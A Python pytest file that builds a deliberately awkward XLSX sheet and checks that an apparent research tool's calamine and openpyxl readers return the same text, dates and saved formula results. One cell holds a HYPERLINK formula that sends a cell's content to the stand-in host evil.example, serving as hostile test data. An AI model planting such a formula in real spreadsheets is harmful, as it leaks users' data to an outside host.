"""XLSX sheets are read with calamine and give exactly what openpyxl gave, on a hostile sheet."""

from __future__ import annotations

import io
from datetime import date, datetime, time

import pytest
import xlsxwriter

from qualcode.errors import ValidationError
from qualcode.ingest.participants import read_table_bytes
from qualcode.ingest.readers.xlsx_sheet import xlsx_rows


def hostile_sheet() -> bytes:
    """Formulas with saved results, dates, numbers stored as text, gaps, emoji, CJK, NA texts."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True, "strings_to_numbers": False})
    sheet = book.add_worksheet("Answers")
    day = book.add_format({"num_format": "yyyy-mm-dd"})
    stamp = book.add_format({"num_format": "yyyy-mm-dd hh:mm:ss"})
    clock = book.add_format({"num_format": "hh:mm"})
    for col, title in enumerate([" pid ", "answer", "", "years", "when", "score"]):
        sheet.write_string(0, col, title)
    rows = [
        ["P1", "Zoë 😀 漢字テスト", None, 5, date(2024, 3, 1), 3.5],
        ["P2", "0012", None, "007", datetime(2024, 3, 1, 13, 45, 7), 1e20],
        [None, None, None, None, None, None],  # an empty row in the middle
        ["P3", "NA", "", "None", time(10, 30), -2],
        ["P4", "  spaced\nlines  ", None, True, None, 12345678901234567890],
    ]
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row):
            if value is None:
                continue
            if isinstance(value, datetime):
                sheet.write_datetime(r, c, value, stamp)
            elif isinstance(value, date):
                sheet.write_datetime(r, c, datetime(value.year, value.month, value.day), day)
            elif isinstance(value, time):
                sheet.write_datetime(r, c, value, clock)
            elif isinstance(value, str):
                sheet.write_string(r, c, value)  # numbers as text stay text
            else:
                sheet.write(r, c, value)
    sheet.write_formula(6, 0, '="P"&5', None, "P5")  # formulas: their saved result is read
    sheet.write_formula(6, 1, '=HYPERLINK("http://evil.example/?"&A1,"Open")', None, "Open")
    sheet.write_formula(6, 3, "=2+3", None, 5)
    sheet.write_string(6, 7, "far away")  # a cell beyond the header's columns
    book.close()
    return out.getvalue()


def test_calamine_reads_the_same_rows_as_openpyxl():
    data = hostile_sheet()
    assert xlsx_rows("a.xlsx", data, engine="calamine") == xlsx_rows("a.xlsx", data, "openpyxl")


def test_cells_keep_their_text_dates_and_saved_formula_results():
    rows = xlsx_rows("a.xlsx", hostile_sheet())
    assert rows[0][:6] == [" pid ", "answer", "", "years", "when", "score"]
    assert rows[1][:6] == ["P1", "Zoë 😀 漢字テスト", "", "5", "2024-03-01 00:00:00", "3.5"]
    assert rows[2][1:4] == ["0012", "", "007"]  # numbers stored as text keep their zeros
    assert rows[3] == [""] * 8  # the empty row stays, so row numbers in errors stay right
    assert rows[4][1:5] == ["NA", "", "None", "10:30:00"]  # NA-like texts are answers, not gaps
    assert rows[6][:4] == ["P5", "Open", "", "5"] and rows[6][7] == "far away"


def test_demographics_sheet_keeps_headers_and_empty_cells():
    rows = read_table_bytes("people.xlsx", hostile_sheet())
    assert rows[0] == {"pid": "P1", "answer": "Zoë 😀 漢字テスト", "years": "5",
                       "when": "2024-03-01 00:00:00", "score": "3.5"}  # fmt: skip
    assert rows[3]["answer"] == "NA" and rows[3]["years"] == "None"


def test_a_broken_workbook_is_one_clear_error():
    data = hostile_sheet()
    broken = data.replace(b"xl/worksheets/sheet1.xml", b"xl/worksheets/sheetX.xml")
    with pytest.raises(ValidationError, match=r"^a\.xlsx: not a readable Excel file"):
        xlsx_rows("a.xlsx", broken)


def test_a_sheet_starting_right_of_column_a_keeps_its_columns():
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    sheet = book.add_worksheet()
    sheet.write(3, 2, "pid")
    sheet.write(4, 1, 1.5)
    sheet.write(4, 4, True)
    book.close()
    data = out.getvalue()
    assert xlsx_rows("a.xlsx", data) == xlsx_rows("a.xlsx", data, "openpyxl")
    assert xlsx_rows("a.xlsx", data)[3] == ["", "", "pid", "", ""]
